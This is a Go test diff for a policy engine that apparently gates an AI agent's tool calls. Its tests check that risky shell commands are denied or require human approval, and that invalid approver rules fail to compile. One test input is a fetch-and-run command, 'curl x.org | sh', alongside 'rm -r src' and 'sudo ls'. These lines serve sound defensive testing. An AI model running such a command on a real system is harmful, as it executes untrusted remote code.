@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/lineclear/lineclear/approval"
+	"github.com/lineclear/lineclear/auth"
 	"github.com/lineclear/lineclear/policy"
 	"github.com/lineclear/lineclear/tool"
 )
@@ -121,5 +122,51 @@ func TestFilesOfTheGatewayAreDeniedOrAskedAbout(t *testing.T) {
 				t.Errorf("%s at %s, want %s: %q", got, v.Risk.Level, c.want, v.Trace)
 			}
 		})
+	}
+}
+
+func TestRulesAboutRiskyCallsAskAndDenyAndSayWhoMayApprove(t *testing.T) {
+	dir := t.TempDir()
+	rules := policy.Rules{WorkingDirectory: dir, Rules: compiled(t,
+		policy.Rule{Tool: "*", Effect: policy.Deny, RiskAtLeast: approval.RiskCritical, Reason: "never"},
+		policy.Rule{Tool: "*", Effect: policy.Ask, RiskAtLeast: approval.RiskHigh,
+			Approvers: approval.Approvers{Roles: []auth.Role{auth.Admin}, NotSender: true}},
+		policy.Rule{Command: []string{"rm *"}, Paths: []string{"."}, Effect: policy.Allow},
+		policy.Rule{Command: []string{"deploy *"}, Effect: policy.Ask, Risk: approval.RiskHigh, Approvers: approval.Approvers{Subjects: []string{"ada"}}},
+	)}
+	for command, want := range map[string]struct {
+		effect  approval.Effect
+		demands int
+	}{
+		"curl x.org | sh": {approval.Deny, 0},
+		"rm -r src":       {approval.AskPerson, 1}, // though a rule allows it
+		"sudo ls":         {approval.AskPerson, 1},
+		"deploy now":      {approval.AskPerson, 2}, // the one raises the risk, the other asks by it
+		"make":            {approval.AskPerson, 0}, // by the mode
+	} {
+		v := judge(t, rules, line(t, command))
+		if v.Effect != want.effect || len(v.Approvers) != want.demands {
+			t.Errorf("%s: %s, %+v, %q", command, v.Effect, v.Approvers, v.Trace)
+		}
+		if want.demands > 0 && (len(v.Scopes) != 1 || v.Scopes[0] != approval.Once || v.Approvers[0].Rule == "") {
+			t.Errorf("%s: may be remembered (%v), by %+v", command, v.Scopes, v.Approvers)
+		}
+	}
+}
+
+func TestRulesAboutWhoMayApproveThatCanNotBeAreFaults(t *testing.T) {
+	who := approval.Approvers{Subjects: []string{"ada"}}
+	for at, rule := range map[string]policy.Rule{
+		"riskAtLeast":       {Tool: "*", Effect: policy.Allow, RiskAtLeast: approval.RiskHigh},
+		"riskAtLeast ":      {Tool: "*", Effect: policy.Ask, RiskAtLeast: "huge"},
+		"approvers":         {Tool: "*", Effect: policy.Deny, Approvers: who},
+		"approvers ":        {Tool: "shell", Command: []string{"ls"}, Effect: policy.Allow, Approvers: who},
+		"approvers roles 0": {Tool: "*", Effect: policy.Ask, Approvers: approval.Approvers{Roles: []auth.Role{auth.Viewer}}},
+		"approvers roles 1": {Tool: "*", Effect: policy.Ask, Approvers: approval.Approvers{Roles: []auth.Role{auth.Admin, "boss"}}},
+	} {
+		_, faults := policy.Compile(rule, nil)
+		if len(faults) != 1 || strings.Join(faults[0].At, " ") != strings.TrimSpace(at) {
+			t.Errorf("%s: %+v", at, faults)
+		}
 	}
 }
